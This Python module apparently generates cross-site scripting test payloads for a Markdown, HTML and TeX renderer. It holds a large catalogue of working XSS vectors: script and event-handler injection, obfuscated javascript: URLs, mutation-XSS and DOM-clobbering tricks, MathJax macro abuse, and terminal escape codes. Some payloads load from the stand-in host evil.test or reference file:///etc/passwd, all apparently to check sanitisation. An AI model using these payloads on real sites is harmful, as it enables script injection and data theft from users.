r"""Payloads that try to run a script, to send a request to another server, or to add a control.

They are made by combination. Each is a Markdown text of its own, and its effect has its number:
`owned(7)`, `http://evil.test/7` or `alert(7)`.
"""

from __future__ import annotations

import itertools
from functools import cache
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

#: The host that must not receive any request.
HOST = "evil.test"


class Payload(NamedTuple):
    """One hostile text; `name` says which parts it is made of."""

    number: int
    name: str
    text: str


# {s} is a script, {u} an address on the hostile host.
_TAGS = (
    "img src=x",
    "svg",
    "svg><animate attributeName=x dur=1s",
    "math",
    "video src=x autoplay",
    "audio src=x autoplay",
    "video><source src=x",
    "body",
    "details open",
    "iframe",
    "object data=x",
    "embed src=x",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "a tabindex=0 autofocus",
    "form",
    "marquee",
    "p style=animation-name:x",
    "custom-element tabindex=0 autofocus",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onclick",
    "onpointerover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onstart",
)
_RAW = {
    "script": "<script>{s}</script>",
    "script from afar": "<script src={u}></script>",
    "script of a module": "<script type=module>import '{u}'</script>",
    "svg script": "<svg><script>{s}</script></svg>",
    "svg script from afar": "<svg><script href={u} /></svg>",
    "svg use": "<svg><use href='{u}#x'/></svg>",
    "svg image": "<svg><image href='{u}' /></svg>",
    "svg link": "<svg><a href='javascript:{s}'><text y=20>x</text></a></svg>",
    "svg set": "<svg><a><set attributeName=href to='javascript:{s}' /><text>x</text></a></svg>",
    "svg foreignObject": "<svg><foreignObject><iframe srcdoc='&lt;script>{s}&lt;/script>'/></foreignObject></svg>",
    "math link": "<math href='javascript:{s}'><mi>x</mi></math>",
    "math xlink": "<math><maction actiontype='statusline#x' xlink:href='javascript:{s}'>x</maction></math>",
    "annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror={s}></annotation-xml></math>",
    "iframe srcdoc": '<iframe srcdoc="<script>parent.{s}</script>"></iframe>',
    "iframe javascript": "<iframe src='javascript:parent.{s}'></iframe>",
    "iframe data": "<iframe src='data:text/html,<script>parent.{s}</script>'></iframe>",
    "iframe from afar": "<iframe src={u}></iframe>",
    "frameset": "<frameset><frame src='javascript:parent.{s}'></frameset>",
    "object": "<object data='{u}' type=text/html></object>",
    "object data": "<object data='data:text/html,<script>parent.{s}</script>'></object>",
    "embed": "<embed src={u}>",
    "applet": "<applet code={u}></applet>",
    "srcset": "<img srcset='{u} 1x, {u}?2 2x'>",
    "picture": "<picture><source srcset={u}><img></picture>",
    "poster": "<video poster={u}></video>",
    "track": "<video><track default src={u}></video>",
    "image": "<img src={u}>",
    "image tag": "<image src={u}>",
    "background": "<table background={u}><td background={u}>x</table>",
    "lowsrc": "<img lowsrc={u} dynsrc={u}>",
    "input image": "<input type=image src={u}>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={u}'>",
    "meta script": "<meta http-equiv=refresh content='0;url=javascript:{s}'>",
    "base": "<base href='{u}/'>",
    "base script": "<base href='javascript:{s}//'>",
    "link": "<link rel=stylesheet href={u}>",
    "link prefetch": "<link rel=prefetch href={u}><link rel=preconnect href={u}><link rel=icon href={u}>",
    "style import": "<style>@import url({u});</style>",
    "style url": "<style>*{{background:url({u})}}</style>",
    "style font": "<style>@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}</style>",
    "style attribute": "<p style=\"background:url('{u}')\">x</p>",
    "style list": "<ul style='list-style-image:url({u})'><li>x</ul>",
    "style cursor": "<p style='cursor:url({u}),auto;position:fixed;inset:0'>x</p>",
    "style escape": "<p style='background:\\75rl({u})'>x</p>",
    "style expression": "<p style='width:expression({s})'>x</p>",
    "form": "<form action={u}><button>x</button></form>",
    "form script": "<form action='javascript:{s}'><input type=submit></form>",
    "formaction": "<button formaction='javascript:{s}'>x</button>",
    "isindex": "<isindex action='javascript:{s}' type=submit>",
    "select": "<select onchange={s}><option>x</select>",
    "editable": "<p contenteditable onblur={s}>x</p>",
    "dialog": "<dialog open><form method=dialog><button>x</button></form></dialog>",
    "ping": "<a href='https://example.org' ping={u}>x</a>",
    "download": "<a href='data:text/html,<script>{s}</script>' download>x</a>",
    "area": "<map name=x><area shape=default href='javascript:{s}'></map><img usemap=#x>",
    "clobbering id": "<a id=nbstream></a><a id=defaultView></a><a id=documentElement href='javascript:{s}'></a>",
    "clobbering name": "<form name=body><input name=attributes><img name=getElementById></form>",
    "clobbering settings": "<a id=jupyter-config-data href='javascript:{s}'>{{}}</a><img id=MathJax name=MathJax>",
    "template": "<template shadowrootmode=open><img src=x onerror={s}></template>",
    "slot": "<slot onslotchange={s}><p>x</p></slot>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror={s}>'></noscript>",
    "mutation style": '<svg></p><style><a id="</style><img src=x onerror={s}>">',
    "mutation math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={s}&gt;'>",
    "mutation title": '<svg><p><style><g title="</style><img src=x onerror={s}>"></svg>',
    "mutation form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={s}>",
    "mutation comment": '<!--<img src="--><img src=x onerror={s}//">',
    "mutation cdata": "<svg><![CDATA[><img src=x onerror={s}>]]></svg>",
    "mutation xmp": '<xmp><p title="</xmp><img src=x onerror={s}>">',
    "mutation textarea": "<textarea><p title='</textarea><img src=x onerror={s}>'></textarea>",
    "mutation select": '<select><template><style><!--</style><a rel="--></style></select><img src=x onerror={s}>">',
    "after details": "</details></summary><img src=x onerror={s}>",
    "after script": "</script><script>{s}</script>",
    "after style": "</style></title></textarea></noscript><img src=x onerror={s}>",
    "after divisions": "</div></div></div></div><img src=x onerror={s}>",
    "after code": "</span></code></pre></div><img src=x onerror={s}>",
    "after math": "</math></svg><img src=x onerror={s}>",
    "open comment": "<!-- <img src=x onerror={s}>",
    "odd comment": "<!--><img src=x onerror={s}>-->",
    "bang comment": "<!--x--!><img src=x onerror={s}>",
    "processing": "<?xml-stylesheet href='javascript:{s}'?><img src=x onerror={s}>",
    "doctype": "<!DOCTYPE x [<!ENTITY y SYSTEM '{u}'>]><img src=x onerror={s}>",
    "plaintext": "<plaintext><img src=x onerror={s}>",
    "no end": "<img src=x onerror={s} ",
    "double": "<<img src=x onerror={s}>>",
    "attribute without quotes": "<img src=`x`onerror={s}>",
    "slashes": "<img/src=x/onerror={s}>",
    "form feed": "<img\x0csrc=x\x0conerror={s}>",
    "vertical": "<svg\x0bonload={s}>",
    "nul": "<scr\x00ipt>{s}</scr\x00ipt><img src=x\x00 onerror={s}>",
    "upper case": "<IMG SRC=x ONERROR={s}><ScRiPt>{s}</sCrIpT>",
    "entities": "&lt;img src=x onerror={s}&gt;",
    "numeric entities": "&#60;img src=x onerror={s}&#62;&#x3c;script&#x3e;{s}&#x3c;/script&#x3e;",
    "double entities": "&amp;lt;img src=x onerror={s}&amp;gt;",
    "percent": "%3Cimg src=x onerror={s}%3E",
    "fullwidth": "\uff1cimg src=x onerror={s}\uff1e",
    "utf-7": "+ADw-script+AD4-{s}+ADw-/script+AD4-",
    "backslashes": "\\<img src=x onerror={s}\\>",
    "js escape": "\\x3cimg src=x onerror={s}\\x3e\\u003cscript\\u003e{s}\\u003c/script\\u003e",
    "terminal link": "\x1b]8;;javascript:{s}\x07x\x1b]8;;\x07 \x1b[2J\x1b]52;c;ZXZpbA==\x07 \x9b31m\x9d8;;{u}\x9c",
    "template words": "${{{s}}} {{{{{s}}}}} {{% {s} %}} #{{{s}}} <%= {s} %>",
}

# Markdown around raw HTML; {x} is the HTML, in one line.
_CONTEXTS = {
    "paragraph": "{x}",
    "text": "before {x} after",
    "heading": "### {x}",
    "underlined": "{x}\n===",
    "item": "- {x}",
    "task": "- [x] {x}",
    "number": "7. {x}",
    "quote": "> {x}",
    "emphasis": "**{x}** and *{x}*",
    "cell": "| {x} | b |\n|:-|-:|\n| {x} | {x} |",
    "footnote": "[^1] said so.\n\n[^1]: {x}",
    "footnote's label": "[^{x}] said so.\n\n[^{x}]: note",
    "link's text": "[{x}](https://example.org)",
    "link's title": '[x](https://example.org "{x}")',
    "link's address": "[x](<https://example.org/{x}>)",
    "reference": "[x][{x}]\n\n[{x}]: https://example.org '{x}'",
    "image's words": "![{x}](https://example.org/x.png)",
    "image's title": "![x](https://example.org/x.png '{x}')",
    "code": "``{x}``",
    "fence": "~~~\n{x}\n~~~",
    "fence's language": "~~~{x}\ncode\n~~~",
    "fence of html": "~~~html\n{x}\n~~~",
    "indented": "Code:\n\n    {x}",
    "formula's text": "$\\text{{{x}}}$",
    "two lines": "a\\\n{x}  \nb",
    "quotes around": "\"'>{x}<'\"",
}

_SCRIPTS = {
    "plain": "javascript:{s}",
    "upper case": "JaVaScRiPt:{s}",
    "entity": "&#106;avascript:{s}",
    "hexadecimal": "&#x6A&#x61;vascript:{s}",
    "colon": "javascript&colon;{s}",
    "tab": "java&Tab;script:{s}",
    "line": "java&NewLine;script:{s}",
    "carriage": "java&#13;script:{s}",
    "nul": "java\x00script:{s}",
    "control": "\x01javascript:{s}",
    "space": "&#32;javascript:{s}",
    "no-break space": "\xa0javascript:{s}",
    "percent": "%6aavascript:{s}",
    "percent colon": "javascript%3A{s}",
    "backslash": "javascript\\:{s}",
    "slashes": "javascript://example.org/%0A{s}",
    "after http": "https:javascript:{s}",
    "view source": "view-source:javascript:{s}",
    "feed": "feed:javascript:{s}",
    "vbscript": "vbscript:{s}",
    "livescript": "livescript:{s}",
    "data": "data:text/html,<script>{s}</script>",
    "data base64": "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+",
    "data svg": "data:image/svg+xml,<svg onload={s}>",
    "blob": "blob:https://example.org/{s}",
    "file": "file:///etc/passwd?{s}",
    "jar": "jar:https://example.org!/{s}",
    "intent": "intent://x#Intent;S.browser_fallback_url=javascript:{s};end",
    "no scheme": "//evil.test/{s}",
    "backslashed": "\\\\\\\\evil.test/{s}",
    "one slash": "https:/evil.test/{s}",
    "no host": "https://",
    "hash": "#{s}",
    "relative": "../api/shutdown?{s}",
    "attribute": 'https://example.org/"onmouseover="{s}',
    "attribute's entity": "https://example.org/&quot;onfocus=&quot;{s}&quot;autofocus=&quot;",
    "mail": 'mailto:x@example.org?body="onfocus={s}',
    "user": "https://javascript:{s}@example.org",
    "soft hyphen": "java\u00adscript:{s}",
    "bidi": "\u202ejavascript:{s}",
    "full width": "javascript\uff1a{s}",
}
_FORMS = {
    "inline": "[x]({a})",
    "angle": "[x](<{a}>)",
    "titled": "[x]({a} 't')",
    "reference": "[x{n}][r{n}]\n\n[r{n}]: {a}",
    "angle reference": "[x{n}]\n\n[x{n}]: <{a}>",
    "autolink": "<{a}>",
    "bare": "see {a} there",
    "image": "![x]({a})",
    "image reference": "![i{n}]\n\n[i{n}]: {a}",
    "image in a link": "[![x]({a})]({a})",
    "link in a link": "[a [x]({a}) b]({a})",
    "html": "<a href='{a}'>x</a>",
    "in a cell": "| a |\n|-|\n| [x]({a}) |",
    "in a heading": "#### [x]({a})",
}

_TEX = {
    "href": r"\href{{javascript:{s}}}{{x}}",
    "href data": r"\href{{data:text/html,<script>{s}</script>}}{{x}}",
    "href afar": r"\href{{{u}}}{{x}}",
    "url": r"\url{{javascript:{s}}}",
    "unicode": r"\unicode[x;background:url({u})]{{x41}}",
    "class": r"\class{{nbstream-tools jp-Dialog}}{{x}}",
    "cssId": r"\cssId{{nbstream}}{{x}}",
    "style": r"\style{{position:fixed;inset:0;background:url({u})}}{{x}}",
    "require": r"\require{{html}}\href{{javascript:{s}}}{{x}}",
    "require afar": r"\require{{../../../{u}}}x",
    "html": r"\html{{<img src=x onerror={s}>}}",
    "htmlClass": r"\htmlClass{{x}}{{y}}\htmlId{{x}}{{y}}\htmlStyle{{background:url({u})}}{{y}}\htmlData{{a=b}}{{y}}",
    "data": r"\data{{onclick={s}}}{{x}}",
    "includegraphics": r"\includegraphics[height=1em]{{{u}}}",
    "input": r"\input{{{u}}}\include{{{u}}}",
    "write": r"\write18{{{s}}}\immediate\openout",
    "token": r"\mmlToken{{mi}}[href='javascript:{s}' style='background:url({u})']{{x}}",
    "texttip": r"\texttip{{x}}{{<img src=x onerror={s}>}}\mathtip{{x}}{{y}}",
    "toggle": r"\toggle{{\href{{javascript:{s}}}{{x}}}}{{y}}\endtoggle",
    "bbox": r"\bbox[background:url({u});border:2px solid red]{{x}}",
    "colour": r"\color{{red;background:url({u})}}{{x}}\textcolor{{url({u})}}{{y}}",
    "coloured box": r"\colorbox{{url({u})}}{{x}}\fcolorbox{{url({u})}}{{url({u})}}{{x}}",
    "colour defined": r"\definecolor{{red}}{{named}}{{url({u})}}\color{{red}}{{x}}",
    "enclose": r"\enclose{{box}}[mathbackground='url({u})' href='javascript:{s}']{{x}}",
    "definition": r"\def\x{{\href{{javascript:{s}}}{{x}}}}\x",
    "let": r"\let\frac\href\frac{{javascript:{s}}}{{x}}",
    "new command": r"\newcommand{{\frac}}[2]{{\href{{javascript:{s}}}{{x}}}}\frac12",
    "renewed command": r"\renewcommand\sqrt[1]{{\style{{background:url({u})}}{{#1}}}}\sqrt2",
    "environment": r"\newenvironment{{x}}{{\href{{javascript:{s}}}}}{{}}\begin{{x}}{{y}}\end{{x}}",
    "operator": r"\DeclareMathOperator{{\sin}}{{\href{{javascript:{s}}}{{x}}}}\sin",
    "delimiters": r"\DeclarePairedDelimiter{{\abs}}{{\href{{javascript:{s}}}{{x}}}}{{y}}\abs{{z}}",
    "loop": r"\def\x{{\x\x}}\x \href{{javascript:{s}}}{{y}}",
    "control sequence": r"\csname href\endcsname{{javascript:{s}}}{{x}}",
    "options": r"\setOptions{{maxMacros=1000000}}\setOptions[safe]{{x=y}}{s}",
    "tag's form": r"\newtagform{{x}}[\href{{javascript:{s}}}]{{(}}{{)}}\usetagform{{x}}\mathtoolsset{{x=y}} y",
    "label": r"\label{{location}}x\ref{{location}}\eqref{{location}}\text{{{s}}}",
    "reference": r"\ref{{javascript:{s}}}",
    "tag": r"x\tag{{\href{{javascript:{s}}}{{x}}}}",
    "tag's html": r"x\tag{{<img src=x onerror={s}>}}",
    "text": r"\text{{<img src=x onerror={s}>}}",
    "text within": r"\text{{$\href{{javascript:{s}}}{{x}}$ \(\href{{javascript:{s}}}{{x}}\)}}",
    "box": r"\mbox{{</span><script>{s}</script>}}\hbox{{\href{{javascript:{s}}}{{x}}}}",
    "operator's name": r"\operatorname{{<svg onload={s}>}}x",
    "chemistry": r"\ce{{$\href{{javascript:{s}}}{{x}}$ H2O}}\pu{{1 kg}}",
    "verbatim": r"\verb|<img src=x onerror={s}>|",
    "rule": r"\rule{{9999em}}{{9999em}}\Rule{{9999em}}{{9999em}}{{0em}}\Space{{9999em}}{{9999em}}{{0em}}{s}",
    "kern": r"\kern-9999em\hspace{{-9999em}}\raise 9999em{{{s}}}\hskip -9999em x",
    "closed early": r"x \) <img src=x onerror={s}> \( y",
    "markup": r"x<img src=x onerror={s}>y",
    "entities": r"x&lt;img src=x onerror={s}&gt;y",
    "comment": r"x<!--{s}-->y<![CDATA[{s}]]>",
    "math markup": r"</math><img src=x onerror={s}><math>",
    "tex html": r"<tex-html><img src=x onerror={s}></tex-html>",
    "processing": r"x<?php {s} ?>y%{s}",
}
_DELIMITERS = (("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]"))
_NESTED = (
    r"$$ \text{{$\href{{javascript:{s}}}{{x}}$}} $$",
    r"\[ \text{{\(\href{{javascript:{s}}}{{x}}\)}} \]",
    r"\( a $\href{{javascript:{s}}}{{x}}$ b \)",
    r"$a \) \( \href{{javascript:{s}}}{{x}}$",
    r"$a \] \[ \href{{javascript:{s}}}{{x}}$",
    r"`$`\href{{javascript:{s}}}{{x}}`$`",
    r"\\(\href{{javascript:{s}}}{{x}}\\)",
    "\\begin{{equation}}\\href{{javascript:{s}}}{{x}}\\end{{equation}}",
    "**$**\\href{{javascript:{s}}}{{x}}**$**",
    "&#36;\\href{{javascript:{s}}}{{x}}&#36;",
    "\\&#40;\\href{{javascript:{s}}}{{x}}\\&#41;",
    "&#92;(\\href{{javascript:{s}}}{{x}}&#92;)",
    "<span class=mathjax_process>\\(\\href{{javascript:{s}}}{{x}}\\)</span>",
    "$\\hr$ef{{javascript:{s}}}{{x}}$",
    "| $\\href{{javascript:{s}}}{{x}}$ |\n|-|\n| $$\\href{{javascript:{s}}}{{x}}$$ |",
    "- [ ] $\\href{{javascript:{s}}}{{x}}$",
    "[^1] x\n\n[^1]: $\\href{{javascript:{s}}}{{x}}$",
    "[$\\href{{javascript:{s}}}{{x}}$](https://example.org)",
    "![$\\href{{javascript:{s}}}{{x}}$](https://example.org/x.png)",
    "~~~math\n\\href{{javascript:{s}}}{{x}}\n~~~",
    "~~~\n$\\href{{javascript:{s}}}{{x}}$ \\(\\href{{javascript:{s}}}{{x}}\\)\n~~~",
    "`$\\href{{javascript:{s}}}{{x}}$ \\(\\href{{javascript:{s}}}{{x}}\\)`",
)


@cache
def markdown() -> tuple[Payload, ...]:
    """Return all payloads that are Markdown, numbered from 0."""
    return tuple(Payload(number, name, make(number)) for number, (name, make) in enumerate(_made()))


@cache
def page() -> tuple[Payload, ...]:
    """Return the payloads for a page: each HTML, address and TeX, but in one context only."""
    chosen: dict[str, Payload] = {}
    turn = itertools.count()
    for kind, group in itertools.groupby(markdown(), key=lambda each: each.name.partition(" in ")[0]):
        members = list(group)
        if kind.startswith("address"):
            # The effect of an address depends on its form, so half of them are tried.
            members = members[next(turn) % 2 :: 2]
        elif not kind.startswith(("TeX", "nested")):
            members = [members[next(turn) % len(members)]]
        chosen |= {each.name: each for each in members}
    return tuple(chosen.values())


def field(number: int) -> str:
    """Return a text for a short field: with HTML, a link, an image, formulas and escape codes."""
    return (
        f"<img src=x onerror=owned({number})><script>owned({number})</script> [x](javascript:owned({number})) "
        f"![x](http://{HOST}/{number}.png) \\(\\href{{javascript:owned({number})}}{{x}}\\) $\\href{{javascript:owned("
        f'{number})}}{{x}}$ http://{HOST}/{number} "onfocus=owned({number}) `x` **x** |\x1b]8;;http://{HOST}\x07x\x9b2J'
    )


def _made() -> Iterator[tuple[str, Callable[[int], str]]]:
    raw = {f"<{tag} {handler}>": f"<{tag} {handler}={{s}}>x" for tag in _TAGS for handler in _HANDLERS}
    for (kind, html), (place, around) in itertools.product((raw | _RAW).items(), _CONTEXTS.items()):
        yield f"{kind} in {place}", _maker(around, html)
    for (kind, address), (form, link) in itertools.product(_SCRIPTS.items(), _FORMS.items()):
        yield f"address {kind} in {form}", _maker(link, address)
    for (kind, tex), (start, end) in itertools.product(_TEX.items(), _DELIMITERS):
        yield f"TeX {kind} in {start}", _maker(start.replace("{", "{{") + "{x}" + end, tex)
    for number, text in enumerate(_NESTED):
        yield f"nested {number}", _maker("{x}", text)


def _maker(around: str, inner: str) -> Callable[[int], str]:
    def make(number: int) -> str:
        # A dialog shows as well as `owned` that a script has run.
        script = f"alert({number})" if number % 7 == 0 else f"owned({number})"
        text = inner.format(s=script, u=f"http://{HOST}/{number}")
        return around.format(x=text, a=text, n=number)

    return make
